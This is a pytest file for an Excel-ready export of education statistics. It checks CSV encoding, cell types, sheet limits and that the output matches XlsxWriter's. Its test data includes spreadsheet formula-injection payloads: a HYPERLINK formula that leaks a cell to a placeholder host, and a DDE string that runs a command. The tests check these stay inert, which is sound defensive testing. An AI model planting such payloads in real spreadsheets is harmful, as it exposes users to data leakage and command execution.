"""Excel-ready exports: CSV with a byte-order mark and one XLSX workbook, read back as Excel users
would get them (openpyxl for the workbook), with hostile text that must never run as a formula."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import re
import zipfile
from pathlib import Path

import duckdb
import openpyxl
import pytest

from orchestration.lib.outputs import exports, sheet_xml, spreadsheets

HOSTILE_NAMES = [
    '=HYPERLINK("http://example.invalid/?leak="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
]


def _publication(path: Path) -> Path:
    with duckdb.connect(str(path)) as con:
        con.execute("CREATE SCHEMA marts; CREATE SCHEMA audit")
        con.execute(
            "CREATE TABLE marts.dim_local_authority (old_la_code VARCHAR, la_name VARCHAR, "
            "statistical_neighbours VARCHAR[], statistical_neighbour_count INTEGER)"
        )
        rows = [(f"{800 + i}", name, ["801", "802"], 2) for i, name in enumerate(HOSTILE_NAMES)]
        rows += [("201", "City of London", [], 0), ("202", "-1.5", None, 0), ("203", "Café, Hove", ["9"], 1)]
        con.executemany("INSERT INTO marts.dim_local_authority VALUES (?, ?, ?, ?)", rows)
        con.execute(
            "CREATE TABLE marts.mart_key_stage_2 (time_period INTEGER, old_la_code VARCHAR, "
            "ks2_rwm_expected_value DOUBLE, ks2_rwm_expected_status VARCHAR, cohort DECIMAL(9, 0))"
        )
        con.execute(
            "INSERT INTO marts.mart_key_stage_2 VALUES (202425, '201', NULL, 'suppressed', 12), "
            "(202425, '202', 61.5, 'published', 3410)"
        )
        con.execute("CREATE TABLE marts.fct_la_measure AS SELECT 'ks2_rwm' AS measure_code, 61.5 AS value")
        con.execute(
            "CREATE TABLE audit.publications (publication_id VARCHAR, published_at TIMESTAMPTZ, "
            "code_version VARCHAR, table_checksums VARCHAR)"
        )
        con.execute(
            "INSERT INTO audit.publications VALUES ('pub-1', TIMESTAMPTZ '2025-12-01 09:30:00+00', 'abc', ?)",
            [json.dumps({"t": "x" * 40_000})],
        )
    return path


@pytest.fixture
def exported(tmp_path):
    published = _publication(tmp_path / "education.duckdb")
    return exports.export_published(published, tmp_path / "exports", None)


def _csv_rows(path: Path) -> list[dict]:
    raw = path.read_bytes()
    assert raw.startswith(spreadsheets.CSV_BOM)  # Excel reads UTF-8 only with it
    return list(csv.DictReader(io.StringIO(raw[len(spreadsheets.CSV_BOM) :].decode("utf-8"))))


def test_csv_has_a_bom_lists_as_text_and_no_cell_excel_would_run(exported):
    rows = {r["old_la_code"]: r for r in _csv_rows(exported.csv_files["marts.dim_local_authority"])}
    for i, name in enumerate(HOSTILE_NAMES):
        assert rows[f"{800 + i}"]["la_name"] == "'" + name  # shown as text, not run
        assert rows[f"{800 + i}"]["statistical_neighbours"] == "801; 802"
    assert rows["202"]["la_name"] == "-1.5"  # a plain number is harmless and stays as published
    assert rows["203"]["la_name"] == "Café, Hove"
    assert rows["201"]["statistical_neighbours"] == "" and rows["202"]["statistical_neighbours"] == ""
    ks2 = {r["old_la_code"]: r for r in _csv_rows(exported.csv_files["marts.mart_key_stage_2"])}
    assert ks2["201"]["ks2_rwm_expected_value"] == "" and ks2["201"]["ks2_rwm_expected_status"] == "suppressed"
    assert ks2["202"]["ks2_rwm_expected_value"] == "61.5"


def test_workbook_keeps_numbers_as_numbers_and_text_as_text(exported):
    workbook = openpyxl.load_workbook(exported.workbook)  # not read-only: data_type is checked
    assert workbook.sheetnames[0] == spreadsheets.README_SHEET
    assert "fct_la_measure" not in workbook.sheetnames and "publications" not in workbook.sheetnames
    sheet = workbook["dim_local_authority"]
    header = [c.value for c in sheet[1]]
    assert header == ["old_la_code", "la_name", "statistical_neighbours", "statistical_neighbour_count"]
    names = {}
    for row in sheet.iter_rows(min_row=2):
        code, name, neighbours, count = row
        assert name.data_type == "s" and code.data_type == "s"  # never 'f' (formula)
        assert count.data_type == "n" and isinstance(count.value, int)
        names[code.value] = (name.value, neighbours.value)
    for i, hostile in enumerate(HOSTILE_NAMES):
        assert names[f"{800 + i}"] == (hostile, "801; 802")  # as published, and inert
    assert names["202"] == ("-1.5", None)
    ks2 = workbook["mart_key_stage_2"]
    values = {r[1].value: r for r in ks2.iter_rows(min_row=2)}
    withheld, published = values["201"], values["202"]
    assert withheld[2].value is None and withheld[3].value == "suppressed"  # blank, status beside it
    assert published[2].value == 61.5 and published[2].data_type == "n"
    assert published[4].value == 3410 and published[4].data_type == "n"


def test_readme_sheet_describes_every_table_and_names_what_is_csv_only(tmp_path):
    published = _publication(tmp_path / "education.duckdb")
    manifest = tmp_path / "manifest.json"
    manifest.write_text(
        json.dumps(
            {
                "nodes": {
                    "model.p.mart_key_stage_2": {
                        "resource_type": "model",
                        "name": "mart_key_stage_2",
                        "config": {"schema": "marts"},
                        "description": "One row per LA and period: KS2.",
                        "columns": {"ks2_rwm_expected_value": {"description": "=Share meeting the standard."}},
                    }
                }
            }
        )
    )
    run = exports.export_published(published, tmp_path / "exports", manifest)
    rows = [[c for c in r] for r in openpyxl.load_workbook(run.workbook)[spreadsheets.README_SHEET].iter_rows()]
    values = [[c.value for c in r] for r in rows]
    assert values[0][:2] == ["publication_id", "pub-1"]
    described = {(r[0], r[2]): (r[1], r[4], r[5]) for r in values if r and r[0] and r[0].startswith("marts.")}
    assert described[("marts.mart_key_stage_2", "ks2_rwm_expected_value")] == (
        "mart_key_stage_2",
        "=Share meeting the standard.",
        "One row per LA and period",
    )
    assert described[("marts.fct_la_measure", "value")][0] == "marts.fct_la_measure.csv"
    assert all(c.data_type == "s" for r in rows for c in r if c.value is not None)
    assert any(v[0] and v[0].startswith("audit.publications is not in this workbook") for v in values)


def test_csv_and_workbook_times_are_utc(exported):
    rows = _csv_rows(exported.csv_files["audit.publications"])
    assert rows[0]["published_at"].startswith("2025-12-01 09:30:00")
    assert len(rows[0]["table_checksums"]) > spreadsheets.XLSX_MAX_CELL_CHARS  # whole in CSV


def test_text_longer_than_an_excel_cell_is_refused_not_cut(tmp_path, monkeypatch):
    published = _publication(tmp_path / "education.duckdb")
    monkeypatch.setattr(spreadsheets, "CSV_ONLY", {"marts.fct_la_measure": "long"})
    with pytest.raises(
        ValueError, match=r"education.xlsx: audit.publications: row 1 of the table, column table_checksums"
    ):
        exports.export_published(published, tmp_path / "exports", None)
    assert not (tmp_path / "exports").exists() or not any((tmp_path / "exports").iterdir())


def test_long_tables_continue_on_numbered_sheets(tmp_path, monkeypatch):
    monkeypatch.setattr(spreadsheets, "XLSX_MAX_ROWS", 4)  # 3 data rows a sheet
    published = _publication(tmp_path / "education.duckdb")
    run = exports.export_published(published, tmp_path / "exports", None)
    workbook = openpyxl.load_workbook(run.workbook)
    parts = [n for n in workbook.sheetnames if n.startswith("dim_local_authority")]
    assert parts == ["dim_local_authority", "dim_local_authority (2)", "dim_local_authority (3)"]
    codes = [r[0].value for n in parts for r in workbook[n].iter_rows(min_row=2)]
    assert codes == sorted(["201", "202", "203", "800", "801", "802", "803", "804"])
    assert all(workbook[n]["A1"].value == "old_la_code" for n in parts)


def test_sheet_names_fit_excel_and_never_clash():
    taken = {"read me"}
    first = spreadsheets._sheet_names("mart_schools_causing_concern_extra_long", 1, taken)
    second = spreadsheets._sheet_names("mart_schools_causing_concern_extra_longer", 1, taken)
    assert all(len(n) <= 31 for n in first + second)
    assert first != second and first[0].lower() != second[0].lower()


def test_timestamps_are_excel_dates(exported, tmp_path, monkeypatch):
    monkeypatch.setattr(spreadsheets, "CSV_ONLY", {})
    published = tmp_path / "education.duckdb"
    with duckdb.connect(str(published)) as con:
        con.execute("UPDATE audit.publications SET table_checksums = '{}'")
    run = exports.export_published(published, tmp_path / "exports2", None)
    sheet = openpyxl.load_workbook(run.workbook)["publications"]
    assert sheet["B2"].value == dt.datetime(2025, 12, 1, 9, 30)


def _cell_by_cell(con: duckdb.DuckDBPyConnection, dictionary: dict, path: Path) -> None:
    """The workbook as XlsxWriter writes it cell by cell (the writer before the rows were built
    in SQL): the reference the SQL-built rows must equal, character for character."""
    workbook, formats = spreadsheets.new_workbook(path)
    placed = spreadsheets.sheets_of(dictionary)
    spreadsheets._write_readme(workbook.add_worksheet(spreadsheets.README_SHEET), dictionary, placed, formats)
    for entry in dictionary["tables"]:
        if entry["table"] not in placed:
            continue
        schema, table = entry["table"].split(".", 1)
        columns = spreadsheets._columns(con, schema, table)
        result = con.execute(f'SELECT * FROM "{schema}"."{table}" ORDER BY ALL')
        for name in placed[entry["table"]]:
            sheet = workbook.add_worksheet(name)
            for col, (column, _) in enumerate(columns):
                sheet.write_string(0, col, column, formats["bold"])
            sheet.freeze_panes(1, 0)
            for row, values in enumerate(result.fetchmany(spreadsheets.XLSX_MAX_ROWS - 1), start=1):
                for col, (value, (_, data_type)) in enumerate(zip(values, columns)):
                    if value is None:
                        continue
                    if isinstance(value, list):
                        sheet.write_string(row, col, "; ".join("" if v is None else str(v) for v in value))
                    elif data_type == "BOOLEAN":
                        sheet.write_boolean(row, col, value)
                    elif isinstance(value, dt.date):
                        if isinstance(value, dt.datetime) and value.tzinfo is not None:
                            value = value.astimezone(dt.UTC).replace(tzinfo=None)
                        time = isinstance(value, dt.datetime)
                        sheet.write_datetime(row, col, value, formats["time" if time else "date"])
                    elif data_type.startswith(("DECIMAL", "DOUBLE", "FLOAT")) or "INT" in data_type:
                        sheet.write_number(row, col, float(value))
                    else:
                        sheet.write_string(row, col, str(value))
    workbook.close()


def _awkward_publication(path: Path) -> Path:
    """Values whose cells are easy to get wrong: XML's and Excel's escapes, white space, control
    characters, numbers needing all 16 digits or an exponent, dates and times (with a zone, and
    around Excel's 29 February 1900), lists with a missing item, booleans, NULLs, a column and a
    row with no value at all."""
    with duckdb.connect(str(path)) as con:
        con.execute("CREATE SCHEMA marts; CREATE SCHEMA audit")
        con.execute(
            "CREATE TABLE marts.awkward (k INTEGER, label VARCHAR, amount DOUBLE, cohort DECIMAL(12, 2), "
            "big BIGINT, flag BOOLEAN, due DATE, seen_at TIMESTAMP, seen_at_utc TIMESTAMPTZ, names VARCHAR[], "
            "scores DOUBLE[], never_due DATE)"
        )
        texts = [
            "plain",
            "a & b < c > d \"quoted\" 'single'",
            " leading space",
            "trailing tab\t",
            "\u00a0no-break space first",
            "line\nbreak",
            "carriage\rreturn",
            "bell\x07 and unit\x1f separator",
            "_x0041_ is not A",
            "_x00zz_ is no escape",
            "=1+1",
            "",
            "Café, Hove \u2014 \U0001f600",
            "\x0b",
        ]
        numbers = [
            0.1 + 0.2,
            1e20,
            1e-5,
            123456789.123456789,
            -2.5,
            1 / 3,
            5e-324,
            61.5,
            0.0,
            3.0,
            1e16,
            12345678901234567.0,
            -1e-7,
            7.25,
        ]
        rows = []
        for k, (text, number) in enumerate(zip(texts, numbers, strict=True)):
            rows.append(
                (
                    k,
                    text,
                    number if k != 3 else None,
                    round(number, 2) if abs(number) < 1e9 else None,
                    2**53 + k,
                    [True, False, None][k % 3],
                    [dt.date(2025, 9, 1), dt.date(1900, 2, 28), dt.date(1900, 3, 1), None][k % 4],
                    [dt.datetime(2025, 12, 1, 9, 30, 15, 250000), dt.datetime(1900, 1, 1, 12), None][k % 3],
                    dt.datetime(2025, 6, 1, 23, 59, 59, tzinfo=dt.timezone(dt.timedelta(hours=1))),
                    [["a", None, "b"], [], None, ["x & y"]][k % 4],
                    [[1.5, None], [2.0], None][k % 3],
                    None,  # a date column with no value: no date style for it
                )
            )
        rows.append((None,) * 12)  # a row with no value at all: no row element, and not in the used range
        con.execute("CREATE TABLE marts.undated AS SELECT 1 AS k, CAST(NULL AS DATE) AS seen_on")  # no date at all
        con.executemany("INSERT INTO marts.awkward VALUES (?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?)", rows)
        con.execute(
            "CREATE TABLE audit.publications (publication_id VARCHAR, published_at TIMESTAMPTZ, "
            "code_version VARCHAR, table_checksums VARCHAR)"
        )
        con.execute(
            "INSERT INTO audit.publications VALUES ('pub-1', TIMESTAMPTZ '2025-12-01 09:30:00+00', 'abc', '{}')"
        )
    return path


@pytest.mark.parametrize("rows_a_sheet", [None, 5])
def test_workbook_rows_built_in_sql_are_what_xlsxwriter_writes_cell_by_cell(tmp_path, monkeypatch, rows_a_sheet):
    """Every part of the package, every sheet byte for byte, equals XlsxWriter's own, also when
    a table runs over several sheets; openpyxl reads back the values as published."""
    if rows_a_sheet:
        monkeypatch.setattr(spreadsheets, "XLSX_MAX_ROWS", rows_a_sheet)
    published = _awkward_publication(tmp_path / "education.duckdb")
    with duckdb.connect(str(published), read_only=True) as con:
        dictionary = exports.data_dictionary(con, None)
        spreadsheets.write_workbook(con, dictionary, tmp_path / "built.xlsx")
        _cell_by_cell(con, dictionary, tmp_path / "reference.xlsx")
    built, reference = zipfile.ZipFile(tmp_path / "built.xlsx"), zipfile.ZipFile(tmp_path / "reference.xlsx")
    assert built.namelist() == reference.namelist()
    sheets = [n for n in built.namelist() if n.startswith("xl/worksheets/sheet")]
    assert len(sheets) == (3 if not rows_a_sheet else 1 + 4 + 1)  # the read-me sheet, awkward's, undated's
    for name in built.namelist():
        if name != "docProps/core.xml":  # it holds the time the workbook was written
            assert built.read(name) == reference.read(name), name
    assert not list(tmp_path.glob("*.layout"))
    workbook = openpyxl.load_workbook(tmp_path / "built.xlsx")
    rows = [
        r
        for n in workbook.sheetnames
        if n.startswith("awkward")
        for r in workbook[n].iter_rows(min_row=2, values_only=True)
    ]
    by_key = {r[0]: r for r in rows}
    assert by_key[1][1] == "a & b < c > d \"quoted\" 'single'" and by_key[2][1] == " leading space"
    # Excel reads _xHHHH_ as the character and _x005F_ as "_"; openpyxl leaves the escapes as written
    assert by_key[7][1] == "bell_x0007_ and unit_x001F_ separator" and by_key[8][1] == "_x005F_x0041_ is not A"
    # 16 significant digits, as XlsxWriter writes numbers (Excel keeps 15)
    assert (
        by_key[0][2] == 0.3 and by_key[5][2] == 0.3333333333333333 and by_key[3][2] is None and by_key[0][9] == "a; ; b"
    )
    assert by_key[0][7] == dt.datetime(2025, 12, 1, 9, 30, 15, 250000)
    assert by_key[0][8] == dt.datetime(2025, 6, 1, 22, 59, 59)  # in UTC
    assert by_key[1][6] == dt.datetime(1900, 2, 28) and by_key[2][6] == dt.datetime(1900, 3, 1)


def test_a_value_no_cell_can_hold_is_named_and_the_last_export_stays(tmp_path):
    published = _publication(tmp_path / "education.duckdb")
    first = exports.export_published(published, tmp_path / "exports", None)
    before = first.workbook.read_bytes()
    with duckdb.connect(str(published)) as con:  # a cell too long for Excel, in a table the workbook holds
        con.execute("UPDATE marts.dim_local_authority SET la_name = repeat('x', 40000) WHERE old_la_code = '201'")
    with pytest.raises(
        ValueError,
        match=r"education.xlsx: marts.dim_local_authority: row 1 of the table, column la_name: a text of 40,000",
    ):
        exports.export_published(published, tmp_path / "exports", None)
    assert first.workbook.read_bytes() == before
    with duckdb.connect(str(published)) as con:
        con.execute("UPDATE marts.dim_local_authority SET la_name = 'City of London' WHERE old_la_code = '201'")
        con.execute("UPDATE marts.mart_key_stage_2 SET ks2_rwm_expected_value = 'nan' WHERE old_la_code = '202'")
    with pytest.raises(
        ValueError, match=r"marts.mart_key_stage_2: row 2 of the table, column ks2_rwm_expected_value: nan is not"
    ):
        exports.export_published(published, tmp_path / "exports", None)
    assert first.workbook.read_bytes() == before
    with duckdb.connect(str(published)) as con:  # past the limit only as Excel counts: in UTF-16 units
        con.execute("UPDATE marts.mart_key_stage_2 SET ks2_rwm_expected_value = 61.5 WHERE old_la_code = '202'")
        con.execute("UPDATE marts.dim_local_authority SET la_name = repeat('😀', 20000) WHERE old_la_code = '203'")
    with pytest.raises(ValueError, match=r"column la_name: a text of 40,000 characters \(as Excel counts them\)"):
        exports.export_published(published, tmp_path / "exports", None)
    with duckdb.connect(str(published)) as con:
        con.execute("UPDATE marts.dim_local_authority SET la_name = 'Café, Hove' WHERE old_la_code = '203'")
        con.execute("ALTER TABLE marts.mart_key_stage_2 ADD COLUMN due DATE")
        con.execute("UPDATE marts.mart_key_stage_2 SET due = 'infinity' WHERE old_la_code = '201'")
    with pytest.raises(ValueError, match=r"marts.mart_key_stage_2: row 1 of the table, column due: infinity is not"):
        exports.export_published(published, tmp_path / "exports", None)
    assert first.workbook.read_bytes() == before


def test_white_space_that_keeps_a_text_as_written_is_pythons_less_the_escaped_controls():
    """XlsxWriter marks a text xml:space="preserve" by Python's ^\\s or \\s$ after escaping control
    characters; sheet_xml's class (RE2 syntax) must hold exactly the white space left."""
    as_python = re.sub(r"\\x\{([0-9a-f]+)\}", lambda m: f"\\U{int(m.group(1), 16):08x}", sheet_xml._SPACE_CLASS)
    matched = {c for c in map(chr, range(0x110000)) if re.fullmatch(as_python, c)}
    assert matched == {c for c in map(chr, range(0x110000)) if c.isspace()} - set(map(chr, sheet_xml._CONTROL))
